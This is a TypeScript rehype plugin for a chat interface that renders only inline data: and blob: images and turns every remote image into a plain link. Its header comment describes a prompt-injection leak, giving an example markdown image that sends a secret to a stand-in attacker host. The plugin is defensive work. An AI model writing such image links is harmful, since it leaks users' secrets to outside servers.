/**
 * Images in chat markdown are never fetched from anywhere: a model that read something
 * secret (a prompt injection in a file, a page, a tool result) could otherwise leak it by
 * writing `![](https://attacker.example/?q=secret)`, which the browser would request as
 * soon as the message renders. Only images carried in the message itself (`data:image/…`)
 * or made by this page (`blob:`) render; every other image becomes a link to its URL,
 * labelled with its alt text, that the person may open (in a new tab, without referrer).
 * The platform's Content-Security-Policy (`img-src 'self' data: blob:`) is the second line.
 */
import type { Element, ElementContent, Root, RootContent } from "hast";
import { defaultUrlTransform, type UrlTransform } from "react-markdown";

const INLINE_IMAGE = /^(?:data:image\/[a-z0-9.+-]+[;,]|blob:)/i;

/** A URL the browser can show without a request to any server. */
export function isInlineImage(src: string): boolean {
  return INLINE_IMAGE.test(src);
}

/** Marks the links made from images (`data-remote-image` on the `<a>`). */
export const REMOTE_IMAGE_PROPERTY = "dataRemoteImage";

function replacement(image: Element, insideLink: boolean): ElementContent {
  const src = typeof image.properties.src === "string" ? image.properties.src : "";
  const alt = typeof image.properties.alt === "string" ? image.properties.alt.trim() : "";
  const text: ElementContent = { type: "text", value: alt || src || "image" };
  // A link cannot hold another link: inside one, the image is its text.
  if (insideLink || !src) return text;
  return {
    type: "element",
    tagName: "a",
    properties: { href: src, title: src, [REMOTE_IMAGE_PROPERTY]: "" },
    children: [text],
  };
}

function rewrite(children: (RootContent | ElementContent)[], insideLink: boolean): void {
  children.forEach((child, index) => {
    if (child.type !== "element") return;
    const src = child.properties.src;
    if (child.tagName === "img" && !(typeof src === "string" && isInlineImage(src))) {
      children[index] = replacement(child, insideLink);
      return;
    }
    rewrite(child.children, insideLink || child.tagName === "a");
  });
}

/** The rehype plugin: every image that would be fetched becomes a link (or text). */
export function rehypeRemoteImagesAsLinks() {
  return (tree: Root) => {
    rewrite(tree.children, false);
  };
}

/** react-markdown's URL check, letting inline images keep their `data:`/`blob:` source. */
export const urlTransform: UrlTransform = (url, key, node) =>
  key === "src" && node.tagName === "img" && isInlineImage(url) ? url : defaultUrlTransform(url);
